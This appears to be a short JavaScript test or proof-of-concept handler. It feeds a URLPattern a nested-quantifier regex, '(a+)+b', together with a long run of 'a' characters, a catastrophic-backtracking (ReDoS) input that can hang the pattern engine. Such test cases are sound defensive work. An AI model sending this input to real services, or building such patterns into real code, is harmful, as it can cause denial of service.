export default function attack() {
  const pattern = new URLPattern({ pathname: "/((?:a+)+)b" });
  return new Response(String(pattern.test("https://example.com/" + "a".repeat(64))));
}
